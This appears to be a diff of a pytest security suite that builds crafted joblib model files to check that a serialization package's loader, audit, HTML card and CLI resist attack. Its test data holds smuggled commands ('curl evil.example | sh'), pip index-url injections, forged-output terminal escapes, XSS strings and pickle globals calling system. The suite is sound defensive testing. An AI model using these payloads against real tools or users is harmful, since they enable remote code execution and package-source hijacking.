+
+INJECTED = "INJECTED"
+
+
+def field_attack(
+    corpus: Corpus, atk: Attack, edit: Callable[[dict[str, Any]], Any]
+) -> None:
+    """A file whose envelope field is wrong: EnvelopeError everywhere, exit 2."""
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib", assemble(corpus.small, envelope=edit)
+    )
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+
+
+@attack("requirements-version-index-url", 7, "a version holding '\\n--index-url ...'")
+def _(corpus: Corpus, atk: Attack) -> None:
+    bad = "2.4.6\n--index-url https://evil.example/simple"
+    field_attack(corpus, atk, lambda e: e["packages"].update(numpy=bad))
+
+
+@attack("requirements-name-editable", 7, "a package name holding '\\n-e git+...'")
+def _(corpus: Corpus, atk: Attack) -> None:
+    bad = "numpy\n-e git+https://evil.example/x.git#egg=x"
+    field_attack(corpus, atk, lambda e: e["packages"].update({bad: "1.0"}))
+
+
+@attack(
+    "requirements-mapping-injection", 7, "'requirements' holding '\\n--extra-index-url'"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    bad = "1.0\n--extra-index-url https://evil.example"
+    field_attack(corpus, atk, lambda e: e["requirements"].update(numpy=bad))
+
+
+@attack("check-fix-line-injection", 7, "a saved version that breaks check's fix line")
+def _(corpus: Corpus, atk: Attack) -> None:
+    bad = "0.1; curl evil.example | sh"
+    field_attack(corpus, atk, lambda e: e["packages"].update({"scikit-learn": bad}))
+
+
+@attack(
+    "modules-distribution-injection", 7, "'modules' naming '-e git+...' as distribution"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    bad = "-e git+https://evil.example"
+    field_attack(corpus, atk, lambda e: e["modules"].update(sklearn=bad))
+
+
+def signed_line_check(label: str, outcome: Outcome) -> list[str]:
+    """``inspect`` must show exactly one 'signed' line, saying no."""
+    if label != "cli inspect" or outcome.status != "done" or not outcome.value:
+        return []
+    lines = [
+        line.strip()
+        for line in outcome.value["stdout"].splitlines()
+        if line.strip().startswith("signed")
+    ]
+    if len(lines) != 1 or lines[0].split()[1:2] != ["no"]:
+        return [f"inspect of an unsigned file shows the lines {lines}"]
+    return []
+
+
+@attack("metadata-key-terminal-escape", 7, "escape sequences in a metadata key")
+def _(corpus: Corpus, atk: Attack) -> None:
+    keys = {
+        "\x1b[1A\x1b[2K  signed      yes (hmac-sha256)": 1,
+        "\r  signed      yes (hmac-sha256)": 2,
+        "\x1b]0;owned\x07title": 3,
+    }
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(corpus.small, envelope=lambda e: e["metadata"].update(keys)),
+    )
+    atk.entries = (*ENTRIES, "cli-process inspect")
+    atk.check = signed_line_check
+
+
+@attack(
+    "text-field-newline-injection", 7, "newlines in keys and values printed as text"
+)
+def _(corpus: Corpus, atk: Attack) -> None:
+    line = f"\n  signed      yes (hmac-sha256)\n{INJECTED}"
+
+    def envelope(e: dict[str, Any]) -> None:
+        e["metadata"][f"owner{line}"] = "x"
+        e["params"][f"C{line}"] = 1
+        e["platform"]["system"] = f"Linux{line}"
+        e["schema"]["feature_names_in"] = [f"a{line}", "b", "c", "d"]
+        e["schema"]["dtypes"] = ["float64"] * 4
+        e["evaluation"] = {"best_params": {f"C{line}": 1}, "scoring": f"x{line}"}
+
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(corpus.small, envelope=envelope),
+    )
+    atk.entries = (*ENTRIES, "cli-process inspect", "cli-process diff")
+    atk.check = signed_line_check
+
+
+@attack("audit-global-name-escapes", 7, "escapes and newlines in a global's name")
+def _(corpus: Corpus, atk: Attack) -> None:
+    names = (
+        "system\x1b[1A\x1b[2K",
+        f"system\n  allowed    sklearn.linear_model.Ridge\n{INJECTED}",
+        "system\r  allowed    sklearn.linear_model.Ridge",
+    )
+    items = b"".join(glob("posix", name) for name in names)
+    stream = PROTO5 + EMPTY_LIST + MARK + items + APPENDS + STOP
+    inner_attack(corpus, atk, stream, control=None)
+    atk.entries = (*ENTRIES, "cli-process audit")
+
+    def dangerous_lines(label: str, outcome: Outcome) -> list[str]:
+        if not label.endswith("audit") or outcome.status != "done" or not outcome.value:
+            return []
+        if label == "audit":
+            report = outcome.value
+            return (
+                []
+                if len(report["dangerous"]) == 3
+                else [f"audit flags {report['dangerous']}"]
+            )
+        lines = outcome.value["stdout"].splitlines()
+        marked = [line for line in lines if "DANGEROUS" in line]
+        if len(marked) < 3:
+            return [f"audit prints {len(marked)} DANGEROUS lines for 3 dangerous names"]
+        return []
+
+    atk.check = dangerous_lines
+
+
+@attack("html-card-escaping", 7, "HTML in metadata and parameter keys")
+def _(corpus: Corpus, atk: Attack) -> None:
+    def envelope(e: dict[str, Any]) -> None:
+        e["metadata"]["<script>alert(1)</script>"] = "<img src=x onerror=alert(2)>"
+        e["params"]["<b onmouseover=alert(3)>C"] = "<script>alert(4)</script>"
+
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(corpus.small, envelope=envelope),
+    )
+    atk.entries = ("read_envelope", "html", "load")
+
+    def escaped(label: str, outcome: Outcome) -> list[str]:
+        if label != "html" or not outcome.value:
+            return []
+        card = outcome.value["html"]
+        bad = [tag for tag in ("<script", "<img", "<b ") if tag in card]
+        return [f"the card holds raw {bad}"] if bad else []
+
+    atk.check = escaped
+
+
+WRONG_FIELDS: dict[str, Callable[[dict[str, Any]], Any]] = {
+    "format-missing": lambda e: e.pop("format"),
+    "format_version-text": lambda e: e.update(format_version="2"),
+    "format_version-bool": lambda e: e.update(format_version=True),
+    "format_version-huge": lambda e: e.update(format_version=10**30),
+    "estimator_class-int": lambda e: e.update(estimator_class=5),
+    "estimator_class-newline": lambda e: e.update(estimator_class=f"a.B\n{INJECTED}"),
+    "payload-list": lambda e: e.update(payload=[]),
+    "payload-buffers-text": lambda e: e["payload"].update(buffers="x"),
+    "payload-stream-negative": lambda e: e["payload"].update(stream={"nbytes": -1}),
+    "payload-checksum-md5": lambda e: e["payload"].update(checksum="md5"),
+    "packages-list": lambda e: e.update(packages=["numpy"]),
+    "packages-version-int": lambda e: e["packages"].update(numpy=2),
+    "requirements-text": lambda e: e.update(requirements="numpy"),
+    "modules-int": lambda e: e["modules"].update(numpy=5),
+    "python-int": lambda e: e.update(python=311),
+    "python-newline": lambda e: e.update(python=f"3.11.7\n{INJECTED}"),
+    "created_at-dict": lambda e: e.update(created_at={}),
+    "writer-escape": lambda e: e.update(writer="0.1\x1b[2J"),
+    "git-commit-int": lambda e: e.update(git={"commit": 5, "dirty": False}),
+    "git-list": lambda e: e.update(git=[]),
+    "platform-text": lambda e: e.update(platform="linux"),
+    "metadata-list": lambda e: e.update(metadata=[]),
+    "params-text": lambda e: e.update(params="x"),
+    "methods-text": lambda e: e.update(methods="predict"),
+    "methods-not-identifiers": lambda e: e.update(methods=["pre dict"]),
+    "globals-dict": lambda e: e.update(globals={}),
+    "schema-feature-names-int": lambda e: e["schema"].update(feature_names_in=5),
+    "schema-n-features-text": lambda e: e["schema"].update(n_features_in="4"),
+    "probe-without-rows": lambda e: e.update(probe={"n_rows": 1}),
+    "probe-list": lambda e: e.update(probe=[]),
+    "tags-list": lambda e: e.update(tags=[]),
+    "evaluation-text": lambda e: e.update(evaluation="x"),
+    "probe_size-text": lambda e: e.update(probe_size="5"),
+}
+
+for _name, _edit in WRONG_FIELDS.items():
+
+    @attack(f"wrong-type-{_name}", 7, f"envelope field: {_name}")
+    def _(corpus: Corpus, atk: Attack, edit: Any = _edit) -> None:
+        field_attack(corpus, atk, edit)
+
+
+def _rows(kind: str, **array: Any) -> dict[str, Any]:
+    return {"n_rows": 1, "X": {"kind": kind, "array": {"kind": "ndarray", **array}}}
+
+
+MALFORMED_PROBES: dict[str, tuple[dict[str, Any] | None, dict[str, Any] | None]] = {
+    "rows-base64-invalid": (
+        _rows("array", dtype="<f8", shape=[1, 4], base64="!!!!"),
+        None,
+    ),
+    "rows-base64-short": (
+        _rows("array", dtype="<f8", shape=[1, 4], base64="AAAA"),
+        None,
+    ),
+    "rows-dtype-object-bytes": (
+        _rows("array", dtype="object", shape=[1], base64="AAAA"),
+        None,
+    ),
+    "rows-dtype-datetime": (
+        _rows("array", dtype="<M8[ns]", shape=[1], base64="AAAAAAAAAAA="),
+        None,
+    ),
+    "rows-shape-negative": (
+        _rows("array", dtype="<f8", shape=[-1, 4], base64=""),
+        None,
+    ),
+    "rows-shape-huge": (
+        _rows("array", dtype="<f8", shape=[10**6, 10**6], base64=""),
+        None,
+    ),
+    "rows-shape-text": (_rows("array", dtype="<f8", shape="x", base64=""), None),
+    "rows-items-not-list": (_rows("list", dtype="object", shape=[1], items="x"), None),
+    "rows-items-bad-bytes": (
+        _rows("list", dtype="object", shape=[1], items=[{"bytes": "!"}]),
+        None,
+    ),
+    "rows-items-nested": (
+        _rows("list", dtype="object", shape=[1], items=[[1, [2]]]),
+        None,
+    ),
+    "rows-kind-unknown": ({"n_rows": 1, "X": {"kind": "pickle"}}, None),
+    "rows-frame-bad-dtype": (
+        {
+            "n_rows": 1,
+            "X": {
+                "kind": "dataframe",
+                "columns": ["a"],
+                "dtypes": ["category<"],
+                "data": [{}],
+            },
+        },
+        None,
+    ),
+    "rows-frame-uneven": (
+        {
+            "n_rows": 1,
+            "X": {
+                "kind": "dataframe",
+                "columns": ["a", "b"],
+                "dtypes": ["float64", "float64"],
+                "data": [
+                    {
+                        "kind": "ndarray",
+                        "dtype": "<f8",
+                        "shape": [1],
+                        "base64": "AAAAAAAAAAA=",
+                    },
+                    {"kind": "ndarray", "dtype": "<f8", "shape": [0], "base64": ""},
+                ],
+            },
+        },
+        None,
+    ),
+    "rows-csr-out-of-range": (
+        {
+            "n_rows": 1,
+            "X": {
+                "kind": "csr",
+                "shape": [1, 4],
+                "data": {
+                    "kind": "ndarray",
+                    "dtype": "<f8",
+                    "shape": [1],
+                    "base64": "AAAAAAAA8D8=",
+                },
+                "indices": {
+                    "kind": "ndarray",
+                    "dtype": "<i4",
+                    "shape": [1],
+                    "base64": "////fw==",
+                },
+                "indptr": {
+                    "kind": "ndarray",
+                    "dtype": "<i4",
+                    "shape": [2],
+                    "base64": "AAAAAAEAAAA=",
+                },
+            },
+        },
+        None,
+    ),
+    "outputs-text": (None, {"predict": "x"}),
+    "outputs-base64-invalid": (
+        None,
+        {"predict": {"kind": "ndarray", "dtype": "<i8", "shape": [5], "base64": "!!"}},
+    ),
+    "outputs-first-columns-text": (
+        None,
+        {"predict_proba": {**ZERO_OUTPUT, "first_columns": "x"}},
+    ),
+    "outputs-unknown-method": (None, {"__reduce__": ZERO_OUTPUT}),
+    "outputs-shape-huge": (
+        None,
+        {
+            "predict": {
+                "kind": "ndarray",
+                "dtype": "<f8",
+                "shape": [10**9],
+                "base64": "",
+            }
+        },
+    ),
+    "outputs-list": (None, {"predict": [1, 2]}),
+}
+
+for _name, (_rows_edit, _outputs_edit) in MALFORMED_PROBES.items():
+
+    @attack(f"malformed-probe-{_name}", 7, f"probe field: {_name}")
+    def _(
+        corpus: Corpus,
+        atk: Attack,
+        rows: Any = _rows_edit,
+        outputs: Any = _outputs_edit,
+    ) -> None:
+        def envelope(e: dict[str, Any]) -> None:
+            e["python"] = "3.11.0"  # so that the probe is replayed by default
+            if rows is not None:
+                e["probe"] = copy.deepcopy(rows)
+
+        def trailer(t: dict[str, Any]) -> None:
+            if outputs is not None:
+                t["probe"] = {"outputs": copy.deepcopy(outputs)}
+
+        atk.path = write(
+            corpus.folder(atk.name) / "model.joblib",
+            assemble(corpus.small, envelope=envelope, trailer=trailer),
+        )
+        atk.entries = ("read_envelope", "load", "cli inspect", "cli verify")
+        atk.extra = [
+            ("load (replay always)", "load", {"replay": "always", "on_drift": "error"})
+        ]
+
+
+def must_load(label: str, outcome: Outcome) -> list[str]:
+    if label.startswith("load") and outcome.status == "done" and outcome.error:
+        return [
+            f"{label} of an intact file failed: {outcome.error['type']}: "
+            f"{outcome.error['message'][:200]}"
+        ]
+    return []
+
+
+@attack("baseline-small-model", 0, "an intact small model (must load)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    atk.path = corpus.benign
+    atk.check = must_load
+    atk.codes = {e: {0} for e in ENTRIES if e.startswith("cli")}
+
+
+# ----------------------------------------------------------------------------
+# Running the corpus
+# ----------------------------------------------------------------------------
+
+
+def jobs_of(corpus: Corpus, atk: Attack) -> list[Job]:
+    path = str(atk.path)
+    jobs = []
+    for entry in atk.entries:
+        if entry in ("read_envelope", "html"):
+            jobs.append(Job(atk, entry, entry, path))
+        elif entry == "audit":
+            jobs.append(Job(atk, entry, "audit", path))
+        elif entry == "load":
+            jobs.append(Job(atk, entry, "load", path, args=dict(atk.load_args)))
+        else:
+            runner, command = entry.split(" ", 1)
+            argv = [*command.split(" "), path]
+            if command == "diff":
+                argv = ["diff", path, str(corpus.benign)]
+            elif command == "verify --key-env":
+                argv = ["verify", path, "--key-env", KEY_VARIABLE]
+            jobs.append(Job(atk, entry, runner, path, argv=argv))
+    for label, kind, args in atk.extra:
+        if kind == "exec":
+            jobs.append(Job(atk, label, "exec", path, code=args["code"]))
+        else:
+            jobs.append(Job(atk, label, kind, path, args=args))
+    for job in jobs:
+        job.timeout = atk.hang
+    return jobs
+
+
+def build_corpus(root: Path) -> Corpus:
+    X, y = load_iris(return_X_y=True)
+    small_model = ve.VersionedEstimator(LogisticRegression(max_iter=500)).fit(X, y)
+    benign = root / "benign.joblib"
+    ve.save(small_model, benign)
+    corpus = Corpus(root, benign, parts_of(small_model), small_model, (X, y))
+    for name in BUILDERS:
+        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(128)
+        listener.setblocking(False)
+        corpus.port[name] = listener.getsockname()[1]
+        group, summary = SPEC[name]
+        atk = Attack(name, group, summary, listener=listener)
+        corpus.attacks[name] = atk
+    for name, builder in BUILDERS.items():
+        atk = corpus.attacks[name]
+        atk.watch.insert(0, corpus.folder(name))
+        try:
+            with warnings.catch_warnings():
+                warnings.simplefilter("ignore")  # convergence and the like
+                builder(corpus, atk)
+        except Exception as exc:  # reported by the attack's test
+            atk.built = f"{type(exc).__name__}: {exc}"
+    return corpus
+
+
+def balanced(items: list[list[Job]], n: int) -> list[list[Job]]:
+    groups: list[list[Job]] = [[] for _ in range(n)]
+    for i, jobs in enumerate(items):
+        groups[i % n].extend(jobs)
+    return groups
 
 
 @pytest.fixture(scope="module")
-def originals(model: VersionedEstimator, tmp_path_factory: Any) -> dict[str, bytes]:
-    """The same model as save writes it, as pickle writes it, and compressed."""
-    folder = tmp_path_factory.mktemp("originals")
-    files = {
-        "save": save(model, folder / "m.joblib"),
-        "zlib": save(model, folder / "m.joblib.z"),
+def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
+    root = tmp_path_factory.mktemp("hostile")
+    started = time.monotonic()
+    corpus = build_corpus(root)
+    built = time.monotonic()
+    packages = str(root / "packages")
+    logs = root / "logs"
+    logs.mkdir()
+    attacks = [a for a in corpus.attacks.values() if not a.built]
+    common = {
+        "sys_path": [packages],
+        "extensions": [["posix", "system", EXT_CODE], ["os", "system", EXT_CACHED]],
+        "memory": MEMORY_LIMIT,
+        "cwd": str(root),
+        "cli_timeout": HANG,
     }
-    out = {name: Path(path).read_bytes() for name, path in files.items()}
-    out["pickle"] = pickle.dumps(model, protocol=5)
-    out["pickle-p2"] = pickle.dumps(model, protocol=2)
-    out["pickle-p0"] = pickle.dumps(model, protocol=0)
-    return out
+    # The safe entry points, all attacks, in two workers.
+    safe = {**common, "name": "safe", "preload": ["versioned_estimator._io"]}
+    run_jobs(balanced([jobs_of(corpus, a) for a in attacks], 2), safe, logs)
+    safe_done = time.monotonic()
+    # The controls, in two other workers (markers of the safe runs are gone).
+    controls = []
+    for atk in attacks:
+        if atk.control is not None:
+            timeout = atk.control.timeout
+            controls.append(
+                [
+                    Job(
+                        atk,
+                        "control",
+                        "exec",
+                        str(atk.path),
+                        code=atk.control.code,
+                        timeout=timeout,
+                    )
+                ]
+            )
+    for atk in attacks:
+        atk.controls, atk.outcomes = atk.outcomes, []
+    control_setup = {
+        **common,
+        "name": "control",
+        "preload": ["versioned_estimator._io", "joblib"],
+    }
+    run_jobs(balanced(controls, 2), control_setup, logs)
+    for atk in attacks:
+        atk.controls, atk.outcomes = atk.outcomes, atk.controls
+    corpus.timings = {  # type: ignore[attr-defined]
+        "build": built - started,
+        "safe": safe_done - built,
+        "controls": time.monotonic() - safe_done,
+    }
+    yield corpus
+    for atk in corpus.attacks.values():
+        atk.listener.close()
 
 
-@contextmanager
-def memory_cap(extra: int = 4 * 2**30) -> Iterator[None]:
-    """Cap this process's address space at its current size plus ``extra``, so
-    that a damaged length that asks for gigabytes fails at once instead of
-    filling the machine."""
-    with open("/proc/self/statm") as statm:
-        current = int(statm.read().split()[0]) * resource.getpagesize()
-    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
-    cap = current + extra
-    if hard != resource.RLIM_INFINITY:
-        cap = min(cap, hard)
-    resource.setrlimit(resource.RLIMIT_AS, (cap, hard))
-    try:
-        yield
-    finally:
-        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
+# ----------------------------------------------------------------------------
+# Judging
+# ----------------------------------------------------------------------------
+
+_CONTROL_CHARACTERS = {chr(c) for c in range(32) if chr(c) not in "\n"} | {"\x7f"}
 
 
-def only_our_errors(data: bytes, *, compressed: bool = False) -> None:
-    """read_envelope and load on ``data`` (as a file) succeed or raise this
-    package's errors; each gets 10 s, compressed files included (load reads them
-    with its own bounded decompression)."""
-    del compressed
-    actions = (read_envelope, _quiet_load)
-    with tempfile.TemporaryDirectory() as folder, memory_cap():
-        path = Path(folder) / "model.joblib"
-        path.write_bytes(data)
-        for action in actions:
-            with time_limit(10), suppress(VersionedEstimatorError):
-                action(path)
+def problems_of(atk: Attack, outcome: Outcome, size: int) -> list[str]:
+    """Everything wrong with one safe run, as one line each."""
+    label = outcome.job.label
+    found: list[str] = []
+    if outcome.status == "hang":
+        found.append(f"hang: {outcome.detail}")
+    elif outcome.status == "crash":
+        found.append(f"crash: {outcome.detail}")
+    elif outcome.status == "not run":
+        found.append(f"not run: {outcome.detail}")
+    if outcome.created:
+        found.append(f"created or changed {outcome.created}")
+    if outcome.connections:
+        found.append(f"{outcome.connections} connection(s) to 127.0.0.1")
+    answer = outcome.answer
+    if answer.get("imported"):
+        found.append(f"imported {answer['imported']}")
+    error = outcome.error
+    allowed = atk.raises.get(label)
+    if error is not None and not error["ours"] and label != "control":
+        found.append(
+            f"raised {error['module']}.{error['type']}: {error['message'][:300]}"
+        )
+    if outcome.status == "done" and allowed:
+        if error is None:
+            found.append(f"did not raise (expected {sorted(allowed)})")
+        elif error["type"] not in allowed:
+            found.append(
+                f"raised {error['type']} (expected {sorted(allowed)}): "
+                f"{error['message'][:200]}"
+            )
+    limit = atk.max_seconds
+    if limit is not None and answer.get("elapsed", 0) > limit:
+        found.append(f"took {answer['elapsed']:.1f} s (limit {limit:.0f} s)")
+    peak_limit = atk.max_peak or (512 * MIB + 64 * size)
+    if answer.get("peak", 0) > peak_limit:
+        found.append(
+            f"resident memory grew by {answer['peak'] / MIB:.0f} MiB for a file of "
+            f"{size} bytes"
+        )
+    value = outcome.value
+    if label.startswith("cli") and outcome.status == "done" and isinstance(value, dict):
+        found += cli_problems(atk, label, value)
+    if atk.check is not None and outcome.status == "done":
+        found += atk.check(label, outcome)
+    return [f"{label}: {p}" for p in found]
 
 
-def _quiet_load(path: Path) -> Any:
-    # Damage to the (unsigned) envelope may change versions or the probe: the
-    # policies are set to ignore, the checks of integrity and trust still run.
-    return load(path, on_mismatch="ignore", on_drift="ignore")
+def cli_problems(atk: Attack, label: str, value: dict[str, Any]) -> list[str]:
+    found = []
+    code, stdout, stderr = value["code"], value["stdout"], value["stderr"]
+    if value.get("uncaught"):
+        error = value["uncaught"]
+        found.append(f"uncaught {error['type']}: {error['message'][:200]}")
+    if code not in (0, 1, 2):
+        found.append(f"exit status {code}")
+    expected = atk.codes.get(label.replace("cli-process", "cli"))
+    if expected and code not in expected:
+        found.append(
+            f"exit status {code} (expected {sorted(expected)}); "
+            f"stderr: {stderr[:200]!r}"
+        )
+    if "Traceback" in stderr:
+        found.append(f"traceback on stderr: {stderr[-300:]!r}")
+    if code == 2:
+        lines = stderr.splitlines()
+        if len(lines) != 1 or not lines[0].startswith("versioned-estimator: error:"):
+            found.append(f"exit 2 with stderr {stderr[:300]!r}")
+    for name, output in (("stdout", stdout), ("stderr", stderr)):
+        raw_controls = sorted({repr(ch) for ch in output if ch in _CONTROL_CHARACTERS})
+        if raw_controls:
+            found.append(f"raw control characters {raw_controls} on {name}")
+        injected = [
+            line for line in output.splitlines() if line.lstrip().startswith(INJECTED)
+        ]
+        if injected:
+            found.append(f"a line injected by the file on {name}: {injected[0]!r}")
+    if "--index-url" in stdout or "-e git+" in stdout or "--extra-index-url" in stdout:
+        found.append("pip options from the file on stdout")
+    return found
 
 
-def _mutate(data: bytes, edits: list[tuple[str, int, bytes]]) -> bytes:
-    out = bytearray(data)
-    for kind, where, payload in edits:
-        position = where % (len(out) + 1)
-        if kind == "flip" and position < len(out):
-            out[position] ^= payload[0] or 1
-        elif kind == "insert":
-            out[position:position] = payload
-        elif kind == "delete":
-            del out[position : position + len(payload)]
-    return bytes(out)
-
-
-EDITS = st.lists(
-    st.tuples(
-        st.sampled_from(["flip", "insert", "delete"]),
-        st.integers(min_value=0, max_value=2**31),
-        st.binary(min_size=1, max_size=8),
-    ),
-    min_size=1,
-    max_size=4,
-)
-KINDS = st.sampled_from(["save", "zlib", "pickle", "pickle-p2", "pickle-p0"])
-HYPOTHESIS = settings(
-    max_examples=250,
-    deadline=None,
-    database=None,
-    suppress_health_check=[HealthCheck.function_scoped_fixture],
-)
-
-
-@HYPOTHESIS
-@given(kind=KINDS, edits=EDITS)
-def test_mutated_files_raise_only_our_errors(originals, kind, edits):
-    """Flipped, inserted and deleted bytes anywhere: load and read_envelope
-    raise VersionedEstimatorError subclasses (or succeed), never hang."""
-    only_our_errors(_mutate(originals[kind], edits), compressed=kind == "zlib")
-
-
-@HYPOTHESIS
-@given(kind=KINDS, fraction=st.floats(min_value=0, max_value=1))
-def test_truncated_files_raise_only_our_errors(originals, kind, fraction):
-    """A file cut anywhere (head, envelope, stream, buffers, tail) raises only
-    this package's errors."""
-    data = originals[kind]
-    only_our_errors(data[: int(len(data) * fraction)], compressed=kind == "zlib")
-
-
-@pytest.mark.parametrize("kind", ["save", "zlib", "pickle", "pickle-p2"])
-def test_truncated_at_every_opcode_of_the_head(originals, model, kind):
-    """Cut at every opcode boundary, just after it, and inside every first
-    512 bytes: read_envelope raises this package's error, or (once the
-    envelope is whole) returns exactly the saved one."""
-    data = originals[kind]
-    whole = model.envelope
-    cuts = set(range(512)) | set(range(0, len(data), 5))
-    if kind != "zlib":
-        # joblib's raw array bytes after a wrapper are not opcodes: stop there.
-        with suppress(ValueError):
-            for _, _, position in pickletools.genops(data):
-                cuts |= {position, position + 1, position + 2}
-    for cut in sorted(cuts):
-        with time_limit(10):
-            try:
-                envelope = read_envelope(data[:cut])
-            except VersionedEstimatorError:
-                continue
-        assert envelope == whole, cut
-
-
-@HYPOTHESIS
-@given(
-    data=st.one_of(
-        st.binary(max_size=4096),
-        st.binary(max_size=256).map(lambda b: HEAD + b),
-        st.binary(max_size=256).map(lambda b: P.PROTO + b"\x05" + b),
+def control_problems(atk: Attack) -> list[str]:
+    if not atk.controls:
+        return ["the control did not run"]
+    outcome = atk.controls[0]
+    expect = atk.control.expect  # type: ignore[union-attr]
+    error = outcome.error
+    seen = (
+        f"status {outcome.status} {outcome.detail}; created {outcome.created}; "
+        f"{outcome.connections} connection(s); error "
+        f"{(error or {}).get('type')}: {(error or {}).get('message', '')[:200]}"
     )
-)
-def test_random_bytes_raise_only_our_errors(data):
-    """Garbage, and garbage after a valid-looking head, raise only
-    VersionedEstimatorError subclasses."""
-    only_our_errors(data)
+    ok = {
+        "marker": bool(outcome.created),
+        "connect": outcome.connections > 0,
+        "crash": outcome.status == "crash",
+        "hang": outcome.status == "hang",
+        "memory": (error or {}).get("type") == "MemoryError"
+        or outcome.status == "crash",
+        "hang or memory": outcome.status in ("hang", "crash")
+        or (error or {}).get("type") == "MemoryError",
+        "check": outcome.status == "done" and outcome.value == {"value": True},
+    }[expect]
+    return [] if ok else [f"the control did not show {expect!r}: {seen}"]
 
 
-def test_a_flip_in_the_data_of_a_saved_file_is_an_integrity_error(model, originals):
-    """The property tests' success case is real: a damaged buffer is caught."""
-    data = bytearray(originals["save"])
-    buffer = model.__reduce_ex__(5)[1][2][0].tobytes()
-    at = bytes(data).find(buffer)
-    assert at > 0
-    data[at + len(buffer) // 2] ^= 0xFF
-    with pytest.raises(versioned_estimator.IntegrityError):
-        load(bytes(data))
+def file_size(atk: Attack) -> int:
+    try:
+        return atk.path.stat().st_size if atk.path and atk.path.is_file() else 0
+    except OSError:
+        return 0
+
+
+def report(atk: Attack) -> list[str]:
+    size = file_size(atk)
+    found = []
+    for outcome in atk.outcomes:
+        found += problems_of(atk, outcome, size)
+    return found
+
+
+# ----------------------------------------------------------------------------
+# Tests
+# ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", list(BUILDERS))
+def test_attack_holds(corpus: Corpus, name: str) -> None:
+    """The attack fails against every safe entry point (see the module docstring)."""
+    atk = corpus.attacks[name]
+    assert not atk.built, f"{name} could not be built: {atk.built}"
+    assert atk.outcomes, f"{name} was not run"
+    found = report(atk)
+    assert not found, f"{name} ({atk.summary}) GOT THROUGH:\n  " + "\n  ".join(found)
+
+
+def test_every_control_shows_its_attack_works(corpus: Corpus) -> None:
+    """Each attack with a control creates its marker, connects, crashes, hangs
+    or blows up memory through plain pickle or joblib: the exploits are real."""
+    with_control = [a for a in corpus.attacks.values() if a.control and not a.built]
+    assert len(with_control) >= 30
+    for group in (1, 2, 3, 4, 5):
+        assert any(a.group == group for a in with_control), group
+    found = [
+        f"{atk.name}: {problem}"
+        for atk in with_control
+        for problem in control_problems(atk)
+    ]
+    assert not found, "\n".join(found)
+
+
+@pytest.mark.parametrize("protocol", [5, 0])
+def test_a_long_head_is_read_in_linear_time(corpus: Corpus, protocol: int) -> None:
+    """A 3.9 MB head costs about four times a 1 MB one (not sixteen)."""
+
+    def elapsed(name: str) -> float:
+        atk = corpus.attacks[name]
+        runs = [o for o in atk.outcomes if o.job.label == "read_envelope"]
+        assert runs, f"{name} did not run"
+        assert runs[0].status == "done", runs[0].detail
+        error = runs[0].error
+        assert error is None, f"{name} was refused: {error['message'][:200]}"
+        return float(runs[0].answer["elapsed"])
+
+    full = elapsed(f"long-head-protocol-{protocol}")
+    quarter = elapsed(f"long-head-protocol-{protocol}-quarter")
+    print(f"protocol {protocol}: 3.9 MB head {full:.2f} s, a quarter {quarter:.2f} s")
+    assert full <= 8 * quarter + 5, (full, quarter)
+
+
+def test_save_replaces_a_symlink_not_its_target(corpus: Corpus, tmp_path: Path) -> None:
+    """``save`` over a symlink (or over a planted stale temp name) replaces
+    the link, never writes through it."""
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    link = tmp_path / "model.joblib"
+    link.symlink_to(victim)
+    dead = 4_000_000
+    while True:
+        try:
+            os.kill(dead, 0)
+        except ProcessLookupError:
+            break
+        except OSError:
+            pass
+        dead += 1
+    stale = tmp_path / f".model.joblib.{dead}.abc.tmp"
+    stale.symlink_to(victim)
+    ve.save(corpus.small_model, link)
+    assert victim.read_text() == "precious"
+    assert not link.is_symlink()
+    assert not stale.exists()
+    assert ve.read_envelope(link).estimator_class.endswith("LogisticRegression")
+
+
+def test_timings(corpus: Corpus) -> None:
+    """How long building and running the corpus took (shown with -rA)."""
+    timings = corpus.timings  # type: ignore[attr-defined]
+    jobs = sum(len(a.outcomes) for a in corpus.attacks.values())
+    print(
+        f"{len(corpus.attacks)} attacks, {jobs} safe runs; "
+        + ", ".join(f"{k} {v:.0f} s" for k, v in timings.items())
+    )
+    slowest = sorted(
+        corpus.attacks.values(), key=lambda a: -sum(o.wall for o in a.outcomes)
+    )
+    for atk in slowest[:12]:
+        walls = ", ".join(f"{o.job.label} {o.wall:.1f}" for o in atk.outcomes)
+        print(f"  {atk.name}: {walls}")
